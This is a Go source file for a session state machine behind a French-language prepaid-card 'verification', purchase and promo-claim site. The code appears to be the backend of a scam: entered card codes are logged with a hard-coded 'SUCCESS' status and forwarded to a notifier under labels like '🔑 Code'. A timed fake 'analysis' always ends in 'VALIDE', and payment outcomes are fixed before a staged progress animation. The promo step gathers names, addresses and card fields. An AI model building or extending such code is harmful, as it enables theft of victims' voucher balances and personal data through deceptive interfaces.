package flow

import (
	"context"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/rechargehub/cardflow/internal/apperr"
	"github.com/rechargehub/cardflow/internal/notify"
	"github.com/rechargehub/cardflow/internal/outcome"
	"github.com/rechargehub/cardflow/internal/progress"
	"github.com/rechargehub/cardflow/internal/recorder"
)

const defaultCallTimeout = 5 * time.Second

// Step-scoped validation messages, matching the front-end copy.
const (
	msgInvalidEmail   = "Veuillez entrer une adresse email valide."
	msgInvalidAmount  = "Veuillez choisir un montant valide."
	msgInvalidMethod  = "Veuillez choisir un moyen de paiement."
	msgIncompleteAddr = "Veuillez remplir tous les champs."
)

// Deps are the collaborators a Controller drives. Every field is optional:
// recording and notification are best-effort side channels, and storage
// defaults to in-memory.
type Deps struct {
	Storage       Storage
	Resolver      outcome.Resolver
	Verifications recorder.VerificationRecorder
	Purchases     recorder.PurchaseRecorder
	Claims        recorder.ClaimRecorder
	Notifier      notify.Notifier
	Logger        *slog.Logger
}

// Controller is the per-journey state machine. It owns the session registry,
// the live progress pipelines, and the outcome resolver; all step
// transitions happen through it.
type Controller struct {
	mu       sync.Mutex
	sessions map[string]*Session

	store         Storage
	resolver      outcome.Resolver
	verifications recorder.VerificationRecorder
	purchases     recorder.PurchaseRecorder
	claims        recorder.ClaimRecorder
	notifier      notify.Notifier
	log           *slog.Logger

	now         func() time.Time
	newID       func() string
	specs       map[PipelineKind]pipelineSpec
	callTimeout time.Duration
}

// Option customizes a Controller at construction time.
type Option func(*Controller)

// WithClock overrides the wall clock used for timestamps and progress
// sampling.
func WithClock(now func() time.Time) Option {
	return func(c *Controller) {
		c.now = now
	}
}

// WithIDGenerator overrides session id generation.
func WithIDGenerator(newID func() string) Option {
	return func(c *Controller) {
		c.newID = newID
	}
}

// WithPipelineTiming overrides the duration and settle delay of one
// processing-step simulation. Tests use it to avoid multi-second waits.
func WithPipelineTiming(kind PipelineKind, duration, settleDelay time.Duration) Option {
	return func(c *Controller) {
		spec := c.specs[kind]
		spec.duration = duration
		spec.settleDelay = settleDelay
		c.specs[kind] = spec
	}
}

// NewController builds a Controller over the provided collaborators.
func NewController(deps Deps, opts ...Option) *Controller {
	c := &Controller{
		sessions:      make(map[string]*Session),
		store:         deps.Storage,
		resolver:      deps.Resolver,
		verifications: deps.Verifications,
		purchases:     deps.Purchases,
		claims:        deps.Claims,
		notifier:      deps.Notifier,
		log:           deps.Logger,
		now:           time.Now,
		newID:         uuid.NewString,
		specs:         defaultPipelineSpecs(),
		callTimeout:   defaultCallTimeout,
	}

	if c.store == nil {
		c.store = NewMemoryStorage()
	}
	if c.resolver == nil {
		c.resolver = outcome.NewResolver()
	}
	if c.notifier == nil {
		c.notifier = notify.Noop{}
	}
	if c.log == nil {
		c.log = slog.Default()
	}

	for _, opt := range opts {
		opt(c)
	}

	return c
}

// OpenSession creates a session whose journey depends on whether the caller
// is authenticated: Dashboard for logged-in users, Guest otherwise.
func (c *Controller) OpenSession(ctx context.Context, ident Identity) (string, error) {
	c.mu.Lock()
	defer c.mu.Unlock()

	journey := JourneyGuest
	if ident.Authenticated {
		journey = JourneyDashboard
	}

	now := c.now()
	sess := &Session{
		ID:           c.newID(),
		Identity:     ident,
		Journey:      journey,
		Step:         InitialStep(journey),
		ContactEmail: ident.Email,
		CreatedAt:    now,
		UpdatedAt:    now,
	}
	c.sessions[sess.ID] = sess
	sessionGauge(len(c.sessions))
	c.persist(ctx, sess)

	c.log.Info("flow session opened",
		slog.String("session_id", sess.ID),
		slog.String("journey", string(journey)),
		slog.Bool("authenticated", ident.Authenticated))

	return sess.ID, nil
}

// Authenticate attaches an identity to the session and lands it on the
// dashboard. Called after a successful login or registration.
func (c *Controller) Authenticate(ctx context.Context, id string, ident Identity) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		ident.Authenticated = true
		sess.Identity = ident
		if sess.ContactEmail == "" {
			sess.ContactEmail = ident.Email
		}
		c.switchJourney(sess, JourneyDashboard)
		return nil
	})
}

// Logout drops the identity, resets every journey field and returns the
// session to the guest home.
func (c *Controller) Logout(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		sess.Identity = Identity{}
		sess.ContactEmail = ""
		c.switchJourney(sess, JourneyGuest)
		return nil
	})
}

// StartVerification enters the Verify journey from either home screen.
func (c *Controller) StartVerification(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepGuestHome && sess.Step != StepDashboardHome {
			return ErrInvalidAction
		}
		c.switchJourney(sess, JourneyVerify)
		c.publish(sess, notify.KindVerifyStart, nil)
		return nil
	})
}

// StartPurchase enters the Buy journey. Reserved for authenticated users;
// guests are redirected to authentication first.
func (c *Controller) StartPurchase(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if !sess.Identity.Authenticated {
			return ErrAuthRequired
		}
		if sess.Step != StepDashboardHome {
			return ErrInvalidAction
		}
		c.switchJourney(sess, JourneyBuy)
		c.publish(sess, notify.KindBuyStart, nil)
		return nil
	})
}

// StartPromo enters the promotional claim journey from the dashboard.
func (c *Controller) StartPromo(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if !sess.Identity.Authenticated {
			return ErrAuthRequired
		}
		if sess.Step != StepDashboardHome {
			return ErrInvalidAction
		}
		c.switchJourney(sess, JourneyPromo)
		c.publish(sess, notify.KindPromoStart, nil)
		return nil
	})
}

// SelectCard records a catalog choice. From the guest home it enters the
// Verify journey directly at the email screen with the selection pre-filled;
// inside Verify and Buy it advances past the card-selection step.
func (c *Controller) SelectCard(ctx context.Context, id string, card CatalogRef) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		switch sess.Step {
		case StepGuestHome:
			c.switchJourney(sess, JourneyVerify)
			sess.SelectedCard = &card
			return c.advance(sess, StepVerifyEmailInput)
		case StepVerifyCardSelection:
			sess.SelectedCard = &card
			return c.advance(sess, StepVerifyEmailInput)
		case StepBuyCardSelection:
			sess.SelectedCard = &card
			return c.advance(sess, StepBuyAmountSelection)
		default:
			return ErrInvalidAction
		}
	})
}

// quickSignInEmail is the placeholder address attached by the provider
// shortcut when the caller supplies none.
const quickSignInEmail = "user@gmail.com"

// QuickSignIn is the shortcut that sets the contact email itself and jumps
// the Verify journey straight to the code screen, bypassing email entry.
func (c *Controller) QuickSignIn(ctx context.Context, id, email string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepVerifyCardSelection && sess.Step != StepVerifyEmailInput {
			return ErrInvalidAction
		}
		if email == "" {
			email = quickSignInEmail
		}
		sess.ContactEmail = email
		return c.advance(sess, StepVerifyCodeInput)
	})
}

// SubmitEmail gates the email-collection step. An invalid address keeps the
// step and sets a step-scoped message instead of returning an error.
func (c *Controller) SubmitEmail(ctx context.Context, id, email string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepVerifyEmailInput {
			return ErrInvalidAction
		}
		if !ValidateEmail(email) {
			sess.StepError = msgInvalidEmail
			sess.UpdatedAt = c.now()
			return nil
		}
		sess.ContactEmail = email
		return c.advance(sess, StepVerifyCodeInput)
	})
}

// SubmitCode gates the code entry step and, when the code passes, starts the
// 20s analysis pipeline. Codes shorter than the minimum are a silent no-op,
// mirroring the disabled submit button.
func (c *Controller) SubmitCode(ctx context.Context, id, code string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepVerifyCodeInput {
			return ErrInvalidAction
		}
		if !ValidateCode(code) {
			return nil
		}

		sess.EnteredCode = code
		if err := c.advance(sess, StepVerifyAnalysis); err != nil {
			return err
		}

		cardID := ""
		if sess.SelectedCard != nil {
			cardID = sess.SelectedCard.ID
		}
		submission := recorder.Verification{
			SessionID: sess.ID,
			UserID:    sess.Identity.UserID,
			UserEmail: sess.ContactEmail,
			Code:      code,
			CardID:    cardID,
			Status:    "SUCCESS",
		}
		if c.verifications != nil {
			c.async("record_verification", func(ctx context.Context) error {
				return c.verifications.RecordVerification(ctx, submission)
			})
		}
		c.publish(sess, notify.KindVerifyCodeEntered, []notify.Field{
			{Label: "💳 Carte", Value: cardID},
			{Label: "🔑 Code", Value: code},
			{Label: "📏 Longueur", Value: fmt.Sprintf("%d caractères", len(code))},
		})

		c.startPipeline(sess, PipelineAnalysis)
		return nil
	})
}

// SelectAmount gates the amount-selection step against the fixed
// denominations.
func (c *Controller) SelectAmount(ctx context.Context, id string, amount int) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepBuyAmountSelection {
			return ErrInvalidAction
		}
		if !ValidAmount(amount) {
			sess.StepError = msgInvalidAmount
			sess.UpdatedAt = c.now()
			return nil
		}
		sess.SelectedAmount = amount
		return c.advance(sess, StepBuyPaymentMethod)
	})
}

// SelectPaymentMethod gates the payment-method step.
func (c *Controller) SelectPaymentMethod(ctx context.Context, id string, method PaymentMethod) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepBuyPaymentMethod {
			return ErrInvalidAction
		}
		if !ValidPaymentMethod(method) {
			sess.StepError = msgInvalidMethod
			sess.UpdatedAt = c.now()
			return nil
		}
		sess.PaymentMethod = method
		return c.advance(sess, StepBuyPaymentInfo)
	})
}

// SubmitPayment resolves the payment outcome immediately, records the
// purchase when the outcome is Success, and starts the 10s processing
// pipeline. The terminal view is therefore already decided before the
// progress animation begins.
func (c *Controller) SubmitPayment(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepBuyPaymentInfo {
			return ErrInvalidAction
		}

		result := c.resolver.Resolve()
		sess.PaymentOutcome = result
		outcomeRecorder(string(result))

		if err := c.advance(sess, StepBuyProcessing); err != nil {
			return err
		}

		if result == outcome.Success && c.purchases != nil {
			submission := recorder.Purchase{
				SessionID: sess.ID,
				UserID:    sess.Identity.UserID,
				Amount:    sess.SelectedAmount,
				Method:    string(sess.PaymentMethod),
				Status:    string(result),
			}
			c.async("record_purchase", func(ctx context.Context) error {
				return c.purchases.RecordPurchase(ctx, submission)
			})
		}
		c.publish(sess, notify.KindPurchase, []notify.Field{
			{Label: "💶 Montant", Value: fmt.Sprintf("%d€", sess.SelectedAmount)},
			{Label: "💳 Moyen", Value: string(sess.PaymentMethod)},
			{Label: "📊 Résultat", Value: string(result)},
		})

		c.startPipeline(sess, PipelinePayment)
		return nil
	})
}

// RetryPayment returns a declined or address-error result to the payment
// info screen with the amount, method and card selections retained.
func (c *Controller) RetryPayment(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepBuyResult {
			return ErrInvalidAction
		}
		if sess.PaymentOutcome == outcome.Success {
			return ErrInvalidAction
		}
		return c.advance(sess, StepBuyPaymentInfo)
	})
}

// SubmitPromoAddress gates the promo address step on all five fields being
// non-empty.
func (c *Controller) SubmitPromoAddress(ctx context.Context, id string, addr Address) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepPromoAddress {
			return ErrInvalidAction
		}
		if !addr.Complete() {
			sess.StepError = msgIncompleteAddr
			sess.UpdatedAt = c.now()
			return nil
		}
		sess.DeliveryAddress = &addr
		return c.advance(sess, StepPromoCard)
	})
}

// SubmitPromoCard accepts the ephemeral card fields, records the claim
// best-effort, and starts the single-shot 4s claim pipeline. The card
// fields are discarded as soon as the submission is in flight.
func (c *Controller) SubmitPromoCard(ctx context.Context, id string, entry CardEntry) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepPromoCard {
			return ErrInvalidAction
		}
		if sess.DeliveryAddress == nil {
			return ErrInvalidAction
		}

		sess.CardEntry = &entry
		if err := c.advance(sess, StepPromoProcessing); err != nil {
			return err
		}

		addr := *sess.DeliveryAddress
		if c.claims != nil {
			submission := recorder.Claim{
				SessionID:  sess.ID,
				UserID:     sess.Identity.UserID,
				FirstName:  addr.FirstName,
				LastName:   addr.LastName,
				Street:     addr.Street,
				City:       addr.City,
				PostalCode: addr.PostalCode,
				Status:     "SUCCESS",
			}
			c.async("record_claim", func(ctx context.Context) error {
				return c.claims.RecordClaim(ctx, submission)
			})
		}
		c.publish(sess, notify.KindPromoClaim, []notify.Field{
			{Label: "📍 Nom", Value: addr.FirstName + " " + addr.LastName},
			{Label: "🏠 Adresse", Value: fmt.Sprintf("%s, %s %s", addr.Street, addr.PostalCode, addr.City)},
		})

		// Ephemeral: never kept beyond submission.
		sess.CardEntry = nil

		c.startPipeline(sess, PipelineClaim)
		return nil
	})
}

// FinishVerification handles "run another check" on the verify result
// screen: back to the dashboard when authenticated, otherwise a full reset
// to the guest home.
func (c *Controller) FinishVerification(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		if sess.Step != StepVerifyResult {
			return ErrInvalidAction
		}
		c.exitToHome(sess)
		return nil
	})
}

// ReturnToDashboard is the global escape hatch available from any step of
// Verify, Buy and Promo. It resets the journey before switching.
func (c *Controller) ReturnToDashboard(ctx context.Context, id string) error {
	return c.withSession(ctx, id, func(sess *Session) error {
		switch sess.Journey {
		case JourneyVerify, JourneyBuy, JourneyPromo:
			c.exitToHome(sess)
			return nil
		default:
			return ErrInvalidAction
		}
	})
}

// CloseSession cancels any live pipeline and forgets the session.
func (c *Controller) CloseSession(ctx context.Context, id string) error {
	c.mu.Lock()
	sess, ok := c.sessions[id]
	if ok {
		if sess.Progress != nil {
			sess.Progress.Cancel()
			sess.Progress = nil
		}
		delete(c.sessions, id)
		sessionGauge(len(c.sessions))
	}
	c.mu.Unlock()

	if !ok {
		return ErrSessionNotFound
	}

	if err := c.store.ClearSession(ctx, id); err != nil {
		c.log.Warn("failed to clear session snapshot", "session_id", id, "error", err)
	}

	return nil
}

// View is the read model exposed to API clients.
type View struct {
	SessionID      string             `json:"session_id"`
	Journey        Journey            `json:"journey"`
	Step           Step               `json:"step"`
	Authenticated  bool               `json:"authenticated"`
	SelectedCard   *CatalogRef        `json:"selected_card,omitempty"`
	ContactEmail   string             `json:"contact_email,omitempty"`
	SelectedAmount int                `json:"selected_amount,omitempty"`
	PaymentMethod  PaymentMethod      `json:"payment_method,omitempty"`
	PaymentOutcome outcome.Outcome    `json:"payment_outcome,omitempty"`
	StepError      string             `json:"step_error,omitempty"`
	Progress       *progress.Snapshot `json:"progress,omitempty"`
}

// View samples the session's current state, including the live pipeline
// when a processing step is active.
func (c *Controller) View(ctx context.Context, id string) (View, error) {
	c.mu.Lock()
	defer c.mu.Unlock()

	sess, ok := c.sessions[id]
	if !ok {
		return View{}, ErrSessionNotFound
	}

	v := View{
		SessionID:      sess.ID,
		Journey:        sess.Journey,
		Step:           sess.Step,
		Authenticated:  sess.Identity.Authenticated,
		SelectedCard:   sess.SelectedCard,
		ContactEmail:   sess.ContactEmail,
		SelectedAmount: sess.SelectedAmount,
		PaymentMethod:  sess.PaymentMethod,
		PaymentOutcome: sess.PaymentOutcome,
		StepError:      sess.StepError,
	}
	if sess.Progress != nil {
		snap := sess.Progress.Sample(c.now())
		v.Progress = &snap
	}

	return v, nil
}

// SessionCount returns the number of live sessions, optionally useful for
// gauges and the janitor.
func (c *Controller) SessionCount() int {
	c.mu.Lock()
	defer c.mu.Unlock()

	return len(c.sessions)
}

// expireIdle closes sessions whose last activity is older than ttl. Called
// by the janitor.
func (c *Controller) expireIdle(ctx context.Context, ttl time.Duration) int {
	cutoff := c.now().Add(-ttl)

	c.mu.Lock()
	var expired []string
	for id, sess := range c.sessions {
		if sess.UpdatedAt.Before(cutoff) {
			if sess.Progress != nil {
				sess.Progress.Cancel()
				sess.Progress = nil
			}
			delete(c.sessions, id)
			expired = append(expired, id)
		}
	}
	sessionGauge(len(c.sessions))
	c.mu.Unlock()

	for _, id := range expired {
		if err := c.store.ClearSession(ctx, id); err != nil {
			c.log.Warn("failed to clear expired session snapshot", "session_id", id, "error", err)
		}
	}

	return len(expired)
}

// withSession runs fn against the live session under the controller lock
// and persists the snapshot afterwards.
func (c *Controller) withSession(ctx context.Context, id string, fn func(sess *Session) error) error {
	c.mu.Lock()
	defer c.mu.Unlock()

	sess, ok := c.sessions[id]
	if !ok {
		return ErrSessionNotFound
	}

	if err := fn(sess); err != nil {
		return err
	}

	c.persist(ctx, sess)
	return nil
}

// advance moves the session to the next step after consulting the journey's
// transition table.
func (c *Controller) advance(sess *Session, to Step) error {
	if !StepBelongsTo(sess.Journey, to) || !IsTransitionAllowed(sess.Journey, sess.Step, to) {
		c.log.Warn("invalid step transition",
			slog.String("session_id", sess.ID),
			slog.String("journey", string(sess.Journey)),
			slog.String("from", string(sess.Step)),
			slog.String("to", string(to)))
		return ErrInvalidTransition
	}

	from := sess.Step
	sess.Step = to
	sess.StepError = ""
	sess.UpdatedAt = c.now()
	transitionRecorder(string(sess.Journey), string(from), string(to))

	c.log.Debug("step transition",
		slog.String("session_id", sess.ID),
		slog.String("journey", string(sess.Journey)),
		slog.String("from", string(from)),
		slog.String("to", string(to)))

	return nil
}

// switchJourney resets journey-scoped state and enters the target journey
// at its initial step.
func (c *Controller) switchJourney(sess *Session, to Journey) {
	fromJourney, fromStep := sess.Journey, sess.Step
	sess.ResetForJourneyExit()
	sess.Journey = to
	sess.Step = InitialStep(to)
	sess.UpdatedAt = c.now()
	transitionRecorder(string(fromJourney), string(fromStep), string(sess.Step))
}

// exitToHome leaves the current journey for the appropriate home screen.
func (c *Controller) exitToHome(sess *Session) {
	if sess.Identity.Authenticated {
		c.switchJourney(sess, JourneyDashboard)
		return
	}
	c.switchJourney(sess, JourneyGuest)
}

// startPipeline cancels any prior pipeline and activates a fresh one for
// the given processing step. Completion advances the step unless the
// pipeline was superseded or the session left the step in the meantime.
func (c *Controller) startPipeline(sess *Session, kind PipelineKind) {
	if sess.Progress != nil {
		sess.Progress.Cancel()
	}

	spec := c.specs[kind]
	pl := progress.New(progress.WithClock(c.now), progress.WithLogger(c.log))
	sess.Progress = pl

	id := sess.ID
	pl.Activate(spec.duration, spec.settleDelay, spec.phases, func() {
		c.completeProcessing(id, pl)
	})
	pipelineRecorder(string(kind), "started")

	c.log.Info("processing pipeline started",
		slog.String("session_id", id),
		slog.String("kind", string(kind)),
		slog.Duration("duration", spec.duration))
}

// completeProcessing is the pipeline completion callback. A stale callback
// (session gone, pipeline superseded, or step already changed) is a no-op.
func (c *Controller) completeProcessing(id string, pl *progress.Pipeline) {
	c.mu.Lock()

	sess, ok := c.sessions[id]
	if !ok || sess.Progress != pl {
		c.mu.Unlock()
		return
	}

	var (
		next Step
		kind PipelineKind
	)
	switch sess.Step {
	case StepVerifyAnalysis:
		next, kind = StepVerifyResult, PipelineAnalysis
	case StepBuyProcessing:
		next, kind = StepBuyResult, PipelinePayment
	case StepPromoProcessing:
		next, kind = StepPromoResult, PipelineClaim
	default:
		c.mu.Unlock()
		return
	}

	sess.Progress = nil
	if err := c.advance(sess, next); err != nil {
		c.mu.Unlock()
		return
	}
	pipelineRecorder(string(kind), "completed")

	if sess.Journey == JourneyVerify && next == StepVerifyResult {
		c.publish(sess, notify.KindVerifyResult, []notify.Field{
			{Label: "🔑 Code", Value: sess.EnteredCode},
			{Label: "📊 Résultat", Value: "VALIDE"},
		})
	}

	c.persist(context.Background(), sess)
	c.mu.Unlock()
}

// persist writes the session snapshot best-effort; failure is logged and
// never propagated, since the in-memory state is authoritative.
func (c *Controller) persist(ctx context.Context, sess *Session) {
	snapshot := *sess
	snapshot.Progress = nil
	snapshot.CardEntry = nil

	if err := c.store.SetSession(ctx, &snapshot); err != nil {
		c.log.Warn("failed to persist session snapshot",
			slog.String("session_id", sess.ID), slog.Any("error", err))
	}
}

// publish emits a notification fire-and-forget.
func (c *Controller) publish(sess *Session, kind string, fields []notify.Field) {
	ev := notify.Event{
		Kind:      kind,
		UserEmail: sess.ContactEmail,
		Fields:    fields,
	}
	if ev.UserEmail == "" {
		ev.UserEmail = sess.Identity.Email
	}

	c.async("notify_"+kind, func(ctx context.Context) error {
		return c.notifier.Publish(ctx, ev)
	})
}

// async runs a collaborator call in the background with a bounded timeout.
// Errors are logged and swallowed: the step transition already decided
// locally is never blocked or rolled back.
func (c *Controller) async(name string, fn func(ctx context.Context) error) {
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), c.callTimeout)
		defer cancel()

		if err := apperr.WithRetry(ctx, func() error { return fn(ctx) }); err != nil {
			c.log.Warn("background collaborator call failed",
				slog.String("call", name), slog.Any("error", err))
		}
	}()
}
